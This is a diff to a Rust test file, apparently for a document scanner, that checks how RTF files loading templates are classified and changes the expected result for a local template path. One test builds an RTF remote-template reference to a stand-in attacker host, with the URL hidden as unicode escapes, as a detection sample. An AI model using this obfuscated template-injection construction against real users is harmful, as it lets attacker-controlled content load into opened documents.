@@ -170,7 +170,7 @@ fn what_a_document_loads_from_a_share() {
     let hidden: String = "http://evil.example/a".chars().map(|c| format!("\\u{}?", u32::from(c))).collect();
     check("a template in numbers", format!("{{\\rtf1{{\\*\\template {hidden}}}}}").as_bytes(), &[C::DocumentRemote]);
     let rtf = "{\\rtf1{\\*\\template C:\\\\Templates\\\\letter.dot}}";
-    check("a template of this computer", rtf.as_bytes(), &[C::DocumentLink]);
+    check("a template of this computer", rtf.as_bytes(), &[]);
 }
 
 #[test]
